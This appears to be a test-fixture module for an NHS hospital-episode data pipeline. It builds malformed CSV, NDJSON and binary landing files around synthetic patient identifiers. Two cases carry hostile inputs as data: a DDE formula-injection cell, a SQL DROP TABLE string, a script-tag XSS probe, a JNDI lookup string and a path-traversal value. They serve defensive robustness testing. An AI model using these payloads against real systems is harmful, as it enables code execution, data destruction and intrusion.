import { SOURCE_TABLES, type SourceRow } from '../../shared/domain/datasets/source-tables.js';
import { nhsNumberCheckDigit } from '../../shared/domain/nhs/nhs-number.js';
import { CLEAN_ROWS } from '../unit/datasets/clean-rows.js';

// The bad-input corpus of landing files (issue 9 items 5, 6 and 8), shared by the unit corpus test
// (landing → planChunks on the memory twins) and the chaos suite (the whole landing path on the
// local host). Every row carries planted identifiers (synthetic, 999-range NHS numbers), so a test
// can scan every output for them. `dataRows` is what a person would count in the file.

export const COLUMNS = SOURCE_TABLES.sus_apc_episode.columns.map((c) => c.name);

/** A valid 999-range NHS number, distinct per `i` (the planted identifiers of this corpus). */
export function nhsNumber(i: number): string {
  for (let k = 700_000 + i * 17; ; k += 1) {
    const first9 = `999${String(k).padStart(6, '0')}`;
    const check = nhsNumberCheckDigit(first9);
    if (check !== null) return `${first9}${check}`;
  }
}

export const planted: string[] = [];
/** Episode `i` with planted identifiers (NHS number, name, date of birth, postcode, local id). */
export function episode(i: number, changes: SourceRow = {}): SourceRow {
  const id = String(i).padStart(4, '0');
  const row: SourceRow = {
    ...CLEAN_ROWS.sus_apc_episode,
    episode_id: `EPL00${id}`,
    hospital_provider_spell_number: `SPL00${id}`,
    nhs_number: nhsNumber(i),
    local_patient_id: `LPLANT${id}`,
    patient_name: `QUILLFEATHER ${id}`,
    date_of_birth: `1937-0${(i % 9) + 1}-2${i % 10}`,
    postcode: `ZX${i % 10} 9QJ`,
    ...changes,
  };
  for (const c of ['nhs_number', 'local_patient_id', 'patient_name', 'date_of_birth', 'postcode'])
    if (typeof row[c] === 'string') planted.push(row[c]);
  return row;
}

export function field(value: SourceRow[string] | undefined): string {
  if (value === null || value === undefined) return '';
  const text = String(value);
  return /[",\n\r]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}
export const line = (row: SourceRow): string => COLUMNS.map((c) => field(row[c])).join(',');
export const HEADER = COLUMNS.join(',');
export function csv(lines: readonly string[], eol = '\n'): string {
  return `${lines.join(eol)}${eol}`;
}

export interface Case {
  readonly name: string;
  readonly body: Buffer | string;
  /** Data rows a person would count in the file (records + unreadable must add up to this). */
  readonly dataRows: number;
  readonly expect:
    | { readonly outcome: 'loaded'; readonly records: number; readonly unreadable: readonly Unreadable[] }
    | { readonly outcome: 'empty'; readonly code: 'FILE.EMPTY' | 'FILE.HEADER_ONLY' }
    | { readonly outcome: 'rejected'; readonly code: string; readonly at: 'landing' | 'plan' };
}
export interface Unreadable {
  readonly row: number;
  readonly line: number;
  readonly rule: string;
}

export const e = (i: number, changes?: SourceRow) => line(episode(i, changes));
/** A row with no quoted field at all (the clean row's secondary diagnoses hold a comma). */
const ONE_DIAGNOSIS: SourceRow = { secondary_diagnoses: 'E119' };
const latin1Name = Buffer.from(csv([HEADER, e(60, { patient_name: 'JOSÉ QUILLFEATHER' })]), 'latin1');
// Another row: the same bytes under a second name would be a duplicate of the first (docs/landing.md).
const declaredLatin1 = Buffer.from(csv([HEADER, e(61, { patient_name: 'JOSÉ QUILLFEATHER' })]), 'latin1');
const junk = Buffer.from(Array.from({ length: 600 }, (_, i) => (i * 7919 + 13) % 256));
junk.write(nhsNumber(70), 100, 'latin1');
planted.push(nhsNumber(70));

export const corpus: readonly Case[] = [
  {
    name: 'sus_apc_episode/clean-bom-crlf.csv',
    body: `\uFEFF${csv([HEADER, e(1), e(2), e(3)], '\r\n')}`,
    dataRows: 3,
    expect: { outcome: 'loaded', records: 3, unreadable: [] },
  },
  {
    name: 'sus_apc_episode/headerless.csv',
    body: csv([e(4), e(5), e(6)]),
    dataRows: 3,
    expect: { outcome: 'rejected', code: 'FILE.HEADER_MISSING', at: 'plan' },
  },
  {
    name: 'sus_apc_episode/wrong-header.csv',
    body: csv([HEADER.replace('nhs_number', 'nhs_no'), e(7)]),
    dataRows: 1,
    expect: { outcome: 'rejected', code: 'FILE.HEADER_UNKNOWN_COLUMN', at: 'plan' },
  },
  {
    name: 'sus_apc_episode/header-lacks-column.csv',
    body: csv([COLUMNS.filter((c) => c !== 'admission_date').join(','), e(8)]),
    dataRows: 1,
    expect: { outcome: 'rejected', code: 'FILE.HEADER_MISSING_COLUMNS', at: 'plan' },
  },
  {
    name: 'sus_apc_episode/unbalanced-quote.csv',
    // Row 2's last field opens a quote that the next line's quoted field seems to close: only row 2
    // is unreadable, rows 3 and 4 are read again as rows and load.
    body: csv([HEADER, e(9), e(10).replace(/,([^,]*)$/, ',"$1'), e(11), e(12)]),
    dataRows: 4,
    expect: {
      outcome: 'loaded',
      records: 3,
      unreadable: [{ row: 2, line: 3, rule: 'FILE.QUOTE_UNBALANCED' }],
    },
  },
  {
    name: 'sus_apc_episode/unbalanced-quote-to-the-end.csv',
    // No other quote in the file: the open field runs to the end; still only row 2 is lost.
    body: csv([
      HEADER,
      e(23, ONE_DIAGNOSIS),
      e(24, ONE_DIAGNOSIS).replace(',QUILLFEATHER', ',"QUILLFEATHER'),
      e(25, ONE_DIAGNOSIS),
      e(26, ONE_DIAGNOSIS),
    ]),
    dataRows: 4,
    expect: {
      outcome: 'loaded',
      records: 3,
      unreadable: [{ row: 2, line: 3, rule: 'FILE.QUOTE_UNBALANCED' }],
    },
  },
  {
    name: 'sus_apc_episode/stray-quote-mid-line.csv',
    // The stray quote "closes" at the next quoted field of the same line: broken quoting, one row.
    body: csv([HEADER, e(27).replace(',QUILLFEATHER', ',"QUILLFEATHER'), e(28)]),
    dataRows: 2,
    expect: {
      outcome: 'loaded',
      records: 1,
      unreadable: [{ row: 1, line: 2, rule: 'FILE.QUOTE_MALFORMED' }],
    },
  },
  {
    name: 'sus_apc_episode/text-after-closing-quote.csv',
    // csv-parse: `Invalid Closing Quote: … value is "<nhs number>"`.
    body: csv([HEADER, e(13).replace(nhsNumber(13), `"${nhsNumber(13)}"x`), e(14)]),
    dataRows: 2,
    expect: {
      outcome: 'loaded',
      records: 1,
      unreadable: [{ row: 1, line: 2, rule: 'FILE.QUOTE_MALFORMED' }],
    },
  },
  {
    name: 'sus_apc_episode/quote-inside-field.csv',
    body: csv([HEADER, e(15), e(16).replace('QUILLFEATHER', 'QUILL"FEATHER')]),
    dataRows: 2,
    expect: {
      outcome: 'loaded',
      records: 1,
      unreadable: [{ row: 2, line: 3, rule: 'FILE.QUOTE_MALFORMED' }],
    },
  },
  {
    name: 'sus_apc_episode/short-row-and-multiline.csv',
    // Row 1 is a field short; row 2 holds a quoted line break (legal CSV), row 3 follows it.
    body: csv([HEADER, e(17).replace(/,[^,]*$/, ''), e(18, { patient_name: 'QUILL\nFEATHER' }), e(19)]),
    dataRows: 3,
    expect: { outcome: 'loaded', records: 2, unreadable: [{ row: 1, line: 2, rule: 'FILE.COLUMN_COUNT' }] },
  },
  {
    name: 'sus_apc_episode/injection.csv',
    body: csv([
      HEADER,
      e(20, { patient_name: "=cmd|' /C calc'!A0" }),
      e(21, { patient_name: '+SUM(1,2)', site_code: '@A1' }),
      e(22, { patient_name: '-2+3' }),
    ]),
    dataRows: 3,
    expect: { outcome: 'loaded', records: 3, unreadable: [] },
  },
  {
    name: 'sus_apc_episode/latin1.csv',
    body: latin1Name,
    dataRows: 1,
    expect: { outcome: 'rejected', code: 'FILE.NOT_UTF8', at: 'plan' },
  },
  {
    name: 'sus_apc_episode/declared.latin1.csv',
    body: declaredLatin1,
    dataRows: 1,
    expect: { outcome: 'loaded', records: 1, unreadable: [] },
  },
  {
    name: 'sus_apc_episode/binary.csv',
    body: junk,
    dataRows: 0,
    expect: { outcome: 'rejected', code: 'FILE.BINARY', at: 'plan' },
  },
  {
    name: 'sus_apc_episode/empty.csv',
    body: '',
    dataRows: 0,
    expect: { outcome: 'empty', code: 'FILE.EMPTY' },
  },
  {
    name: 'sus_apc_episode/blank-lines.csv',
    body: '\r\n\r\n',
    dataRows: 0,
    expect: { outcome: 'empty', code: 'FILE.EMPTY' },
  },
  {
    name: 'sus_apc_episode/header-only.csv',
    body: `\uFEFF${HEADER}\r\n`,
    dataRows: 0,
    expect: { outcome: 'empty', code: 'FILE.HEADER_ONLY' },
  },
  {
    name: 'sus_apc_episode/broken-lines.ndjson',
    body: `\uFEFF${[
      JSON.stringify(episode(30)),
      `{"episode_id": "EPL000031", "nhs_number": "${nhsNumber(31)}", `,
      '',
      JSON.stringify(episode(32)),
      `["${nhsNumber(33)}"]`,
    ].join('\r\n')}\r\n`,
    dataRows: 4,
    expect: {
      outcome: 'loaded',
      records: 2,
      unreadable: [
        { row: 2, line: 2, rule: 'FILE.JSON_MALFORMED' },
        { row: 4, line: 5, rule: 'FILE.NOT_AN_OBJECT' },
      ],
    },
  },
  {
    name: 'sus_apc_episode/empty.ndjson',
    body: '\n',
    dataRows: 0,
    expect: { outcome: 'empty', code: 'FILE.EMPTY' },
  },
  {
    name: 'not_a_table/x.csv',
    body: csv([HEADER, e(40)]),
    dataRows: 1,
    expect: { outcome: 'rejected', code: 'FILE.UNKNOWN_TABLE', at: 'landing' },
  },
  {
    name: 'stray.csv',
    body: csv([HEADER, e(41)]),
    dataRows: 1,
    expect: { outcome: 'rejected', code: 'FILE.WRONG_FOLDER', at: 'landing' },
  },
  {
    name: 'sus_apc_episode/export.xlsx',
    body: csv([HEADER, e(42)]),
    dataRows: 1,
    expect: { outcome: 'rejected', code: 'FILE.UNSUPPORTED_FORMAT', at: 'landing' },
  },
  {
    name: 'sus_apc_episode/huge-fields.csv',
    // A 1 MB free-text field and a 200 kB code field: read as rows (the rules judge them), never
    // a crash, never copied into a reason.
    body: csv([
      HEADER,
      e(80, { patient_name: `QUILLFEATHER ${'W'.repeat(1_000_000)}` }),
      e(81, { site_code: 'R'.repeat(200_000) }),
      e(82),
    ]),
    dataRows: 3,
    expect: { outcome: 'loaded', records: 3, unreadable: [] },
  },
  {
    name: 'sus_apc_episode/impossible-dates.csv',
    // Well-formed dates that name no day, and dates that are not dates: the rules quarantine them.
    body: csv([
      HEADER,
      e(83, { admission_date: '2026-02-30' }),
      e(84, { date_of_birth: '1937-13-45' }),
      e(85, { discharge_date: '0000-00-00' }),
      e(86, { admission_date: '31/02/2026' }),
      e(87, { date_of_birth: '2999-01-01' }),
    ]),
    dataRows: 5,
    expect: { outcome: 'loaded', records: 5, unreadable: [] },
  },
  {
    name: 'sus_apc_episode/sql-and-markup-injection.ndjson',
    body: `${[
      JSON.stringify(episode(88, { patient_name: "QUILL'); DROP TABLE dim_patient; --" })),
      JSON.stringify(episode(89, { site_code: "' OR '1'='1" })),
      JSON.stringify(
        episode(90, { patient_name: '<script>alert(1)</script>', postcode: '${jndi:ldap://x/a}' }),
      ),
      JSON.stringify(episode(91, { episode_id: '../../etc/passwd' })),
    ].join('\n')}\n`,
    dataRows: 4,
    expect: { outcome: 'loaded', records: 4, unreadable: [] },
  },
];
